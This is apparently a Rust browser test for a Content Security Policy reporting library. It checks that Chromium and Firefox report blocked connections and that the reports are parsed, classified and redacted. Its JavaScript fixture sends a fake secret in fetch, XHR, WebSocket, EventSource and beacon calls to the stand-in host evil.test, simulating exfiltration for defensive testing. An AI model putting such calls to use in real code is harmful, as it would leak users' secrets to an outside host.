//! Violation reports as browsers send them, over `report-uri`: each is read, classified and explained.

#![allow(clippy::unwrap_used, reason = "a test that panics has failed")]

use std::thread;
use std::time::{Duration, Instant};

use csp_harness::{Browser, Firefox, Request, Response, Server, require_chromium, require_firefox};
use csp_runtime::Violation;
use csp_runtime::report::{
    Class, GroupKey, Limits, OwnPolicies, PolicyMatch, RedactedReport, accepts, classify, explain, parse, redact,
};

const HEADER: &str = "connect-src 'self' http://api.test; img-src 'none'; report-uri /csp?key=s3cret";

/// Makes each call once, and waits until all have ended.
const CALLS: &str = r#"
(async () => {
    const ended = (target, ...events) =>
        new Promise(resolve => events.forEach(event => target.addEventListener(event, resolve)));
    await fetch("http://evil.test/fetch?key=s3cret#s3cret").catch(() => {});
    await fetch("http://api.test/away").catch(() => {});
    const request = new XMLHttpRequest();
    const requested = ended(request, "loadend");
    try { request.open("GET", "http://evil.test/xhr?key=s3cret"); request.send(); await requested; } catch {}
    try { const socket = new WebSocket("ws://evil.test/socket?key=s3cret"); await ended(socket, "error", "open"); } catch {}
    try { const events = new EventSource("http://evil.test/events"); await ended(events, "error", "open"); } catch {}
    try { navigator.sendBeacon("http://evil.test/beacon", "x"); } catch {}
    return true;
})()"#;

/// What must be reported: the path of the blocked URL and the class.
const EXPECTED: &[(&str, Class)] = &[
    ("http://api.test/away", Class::Redirect),
    ("http://evil.test/beacon", Class::Violation),
    ("http://evil.test/events", Class::Violation),
    ("http://evil.test/fetch", Class::Violation),
    ("http://evil.test/xhr", Class::Violation),
    ("ws://evil.test/socket", Class::Violation),
];

fn server() -> Server {
    Server::start(|request| match (request.host(), request.path()) {
        ("page.test", "/") => Response::html("<title>Reports</title>").header("Content-Security-Policy", HEADER),
        ("page.test", "/csp") => Response::new(204),
        ("api.test", "/away") => Response::redirect(302, "http://evil.test/away").cors(),
        _ => Response::text("data").cors(),
    })
}

/// The reports about connections that have arrived.
fn arrived(requests: &[Request], own: &OwnPolicies) -> Vec<(Class, RedactedReport)> {
    let mut found = Vec::new();
    for request in requests.iter().filter(|request| request.method == "POST" && request.path() == "/csp") {
        let content_type = request.header("content-type").unwrap();
        assert!(accepts(content_type), "{content_type}");
        let shown = String::from_utf8_lossy(&request.body).into_owned();
        let batch = parse(&request.body, &Limits::default()).unwrap_or_else(|error| panic!("{error}: {shown}"));
        assert_eq!(batch.rejections(), [], "{shown}");
        for report in batch.reports().iter().filter(|report| report.effective_directive == "connect-src") {
            let classification = classify(report, own);
            assert_eq!(classification.policy, PolicyMatch::ThisBuild, "{shown}");
            let report = redact(report);
            let explanation = explain(&report, classification);
            let entry = match classification.class {
                Class::Violation if report.blocked_url.starts_with("ws:") => {
                    Some("#[cfg(debug_assertions)] \"ws://evil.test\",")
                }
                Class::Violation => Some("#[cfg(debug_assertions)] \"http://evil.test\","),
                _ => None,
            };
            assert_eq!(explanation.entry.as_deref(), entry, "{shown}");
            found.push((classification.class, report));
        }
    }
    found
}

/// Waits for the reports of a page that has made its calls.
fn check(server: &Server) {
    let own = OwnPolicies::new([HEADER]).pages(["http://page.test"]);
    let deadline = Instant::now() + Duration::from_secs(10);
    let reports = loop {
        let reports = arrived(&server.requests(), &own);
        let has = |url: &str| reports.iter().any(|(_, report)| report.blocked_url == url);
        if EXPECTED.iter().all(|(url, _)| has(url)) || Instant::now() > deadline {
            break reports;
        }
        thread::sleep(Duration::from_millis(50));
    };
    let mut found: Vec<_> = reports.iter().map(|(class, report)| (report.blocked_url.as_ref(), *class)).collect();
    found.sort_unstable();
    // A browser may report a breach more than once.
    found.dedup();
    assert_eq!(found, EXPECTED);
    for (_, report) in &reports {
        assert_eq!(report.document_url, "http://page.test/");
        assert!(!format!("{report:?}").contains("s3cret"), "{report:?}");
        let violation = Violation::from(report);
        // Firefox writes the whole URL of the endpoint.
        let quoted = violation.original_policy.replace("http://page.test/csp", "/csp");
        assert_eq!(quoted, HEADER.replace("?key=s3cret", ""));
        assert_eq!(GroupKey::of(report).policy, "connect-src 'self' http://api.test; img-src 'none'");
        assert_eq!(violation.disposition, csp_runtime::Disposition::Enforce);
    }
}

#[test]
fn chromium_reports_each_blocked_connection() {
    let Some(chromium) = require_chromium("reports") else { return };
    let server = server();
    let browser = Browser::launch_for(&chromium, &server, &[]).unwrap();
    let mut page = browser.page().unwrap();
    page.navigate("http://page.test/?token=s3cret").unwrap();
    page.evaluate(CALLS).unwrap();
    check(&server);
}

#[test]
fn firefox_reports_each_blocked_connection() {
    let Some(firefox) = require_firefox("reports") else { return };
    let server = server();
    let browser = Firefox::launch_for(&firefox, &server).unwrap();
    let mut page = browser.page().unwrap();
    page.navigate("http://page.test/?token=s3cret").unwrap();
    page.evaluate(CALLS).unwrap();
    check(&server);
}
